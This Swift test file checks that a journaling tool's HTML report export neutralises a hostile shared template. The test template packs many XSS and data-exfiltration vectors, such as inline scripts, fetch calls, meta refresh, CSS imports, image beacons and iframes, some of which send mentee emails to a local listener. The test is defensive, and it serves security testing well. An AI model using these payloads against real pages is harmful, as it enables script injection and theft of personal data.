import Foundation
import JournalKit
import TestSupport
import Testing

/// A template a partner committed to the journal, written to run script and to send the
/// journal's words to a server, rendered by `journal report --format html` and loaded in real
/// headless Chromium beside a listener on 127.0.0.1: no script runs and no request arrives.
@Suite struct HostileTemplateTests {
    static let chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"].first {
        FileManager.default.isExecutableFile(atPath: $0)
    }

    /// Every way a page can run script or reach the network that a template could write.
    static func template(port: UInt16) -> String {
        let base = "http://127.0.0.1:\(port)"
        return """
            <!DOCTYPE html>
            <html><head>
            <script>document.documentElement.setAttribute('data-ran', 'head'); fetch('\(base)/fetch');</script>
            <meta http-equiv="refresh" content="0;url=\(base)/refresh?{{#mentorships}}{{mentee.email}}{{/mentorships}}">
            <META HTTP-EQUIV='Content-Security-Policy' content="default-src *; script-src * 'unsafe-inline'">
            <link rel="stylesheet" href="\(base)/stylesheet">
            <link rel="prefetch" href="\(base)/prefetch">
            <link rel="icon" href="\(base)/icon">
            <base href="\(base)/base/">
            <style>@import url("\(base)/import"); body { background: url("\(base)/background"); }</style>
            <title>{{title}}</title>
            </head>
            <body onload="document.documentElement.setAttribute('data-ran', 'onload')">
            {{#mentorships}}
            <img src="\(base)/image?who={{mentee.email}}">
            <img src="x" onerror="document.documentElement.setAttribute('data-ran', 'onerror')">
            <iframe src="\(base)/frame"></iframe>
            <object data="\(base)/object"></object>
            <embed src="\(base)/embed">
            <video poster="\(base)/poster" src="\(base)/video"></video>
            <audio src="\(base)/audio" autoplay></audio>
            <svg><image href="\(base)/svg-image" width="10" height="10"/></svg>
            <img src="relative-to-base.png">
            <p class="raw">{{{mentee.name}}}</p>
            <p class="amp">{{&mentee.name}}</p>
            {{/mentorships}}
            {{=<% %>=}}
            <p class="delimiters"><%#mentorships%><%&mentee.name%><%/mentorships%></p>
            <%={{ }}=%>
            {{% CONTENT_TYPE: TEXT}}
            <p class="text">{{#mentorships}}{{{mentee.name}}}{{/mentorships}}</p>
            <script src="\(base)/script.js"></script>
            <script>document.documentElement.setAttribute('data-ran', 'body'); new Image().src = '\(base)/beacon';</script>
            </body></html>
            """
    }

    @Test(.enabled(if: chromium != nil, "chromium is not installed (.ci/run installs it)"))
    func hostileSharedTemplateRunsNothingAndLoadsNothing() throws {
        let listener = try Listener()
        defer { listener.stop() }
        let folder = try temporaryFolder().appendingPathComponent("pair")
        let script = "<script>document.documentElement.setAttribute('data-ran','journal')</script>"
        let files: [String: String] = [
            "agreement.md": """
            ---
            mentor: Mara Quinn <mara@example.org>
            mentee:
              name: "Theo \(script)<img src=http://127.0.0.1:\(listener.port)/journal-text>"
              email: theo@example.org
            started: 2026-11-01
            cadence: weekly
            ---
            """,
            "sessions/2026-11-20.md":
                "---\ndate: 2026-11-20\n---\n# Notes\n\n![a picture](http://127.0.0.1:\(listener.port)/markdown-image)\n",
            "templates/report.html.mustache": Self.template(port: listener.port),
        ]
        for (path, text) in files {
            let url = folder.appendingPathComponent(path)
            try FileManager.default.createDirectory(
                at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try text.write(to: url, atomically: true, encoding: .utf8)
        }
        let page = folder.appendingPathComponent("report.html")
        let run = try journal(
            ["--today", "2026-11-25", "report", "--format", "html", "--output", page.path], in: folder)
        #expect(run.status == 0, "\(run.stderr)")
        let html = try String(contentsOf: page, encoding: .utf8)
        // The policy comes before anything the template wrote, and nothing of the journal's is raw.
        let policy = try #require(html.range(of: HTMLPolicy.metaElement))
        let firstScript = try #require(html.range(of: "<script"))
        #expect(policy.lowerBound < firstScript.lowerBound)
        #expect(!html.contains("Theo <script>"), "journal text came out unescaped")
        #expect(!html.lowercased().contains("http-equiv=\"refresh\""))
        #expect(!html.lowercased().contains("<link") && !html.lowercased().contains("<iframe"))

        let profile = try temporaryFolder()
        let browser = try runProgram(
            URL(fileURLWithPath: try #require(Self.chromium)),
            [
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                "--disable-extensions",
                "--user-data-dir=\(profile.path)", "--virtual-time-budget=5000", "--dump-dom",
                page.absoluteString,
            ], in: folder, environment: ProcessInfo.processInfo.environment, timeout: 120)
        #expect(browser.status == 0, "\(browser.stderr)")
        let dom = browser.stdout
        #expect(dom.contains("Theo &lt;script&gt;"), "the page did not load: \(dom.prefix(2000))")
        #expect(!dom.contains("data-ran=\""), "script ran: \(dom.prefix(2000))")
        // Give any late request time to arrive.
        Thread.sleep(forTimeInterval: 0.5)
        #expect(listener.requests.isEmpty, "the page reached the network: \(listener.requests)")
    }
}

/// A TCP listener on 127.0.0.1 that records the first line of every request and answers 200.
final class Listener: @unchecked Sendable {
    let port: UInt16
    private let socketFD: Int32
    private let lock = NSLock()
    private var seen: [String] = []
    private var running = true

    var requests: [String] { lock.withLock { seen } }

    init() throws {
        socketFD = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        address.sin_port = 0
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let fd = socketFD
        let bound = withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, length) }
        }
        guard bound == 0, listen(fd, 64) == 0 else { throw ListenerError.cannotListen }
        _ = withUnsafeMutablePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &length) }
        }
        port = UInt16(bigEndian: address.sin_port)
        Thread.detachNewThread { [self] in serve() }
    }

    private func serve() {
        while lock.withLock({ running }) {
            var poller = pollfd(fd: socketFD, events: Int16(POLLIN), revents: 0)
            guard poll(&poller, 1, 100) > 0 else { continue }
            let client = accept(socketFD, nil, nil)
            guard client >= 0 else { continue }
            var buffer = [UInt8](repeating: 0, count: 4096)
            let count = read(client, &buffer, buffer.count)
            let line =
                String(decoding: buffer.prefix(max(0, count)), as: UTF8.self)
                .split(separator: "\r\n").first.map(String.init) ?? "(a connection)"
            lock.withLock { seen.append(line) }
            let answer = "HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            _ = answer.withCString { write(client, $0, strlen($0)) }
            close(client)
        }
    }

    func stop() {
        lock.withLock { running = false }
        Thread.sleep(forTimeInterval: 0.2)
        close(socketFD)
    }
}

enum ListenerError: Error { case cannotListen }
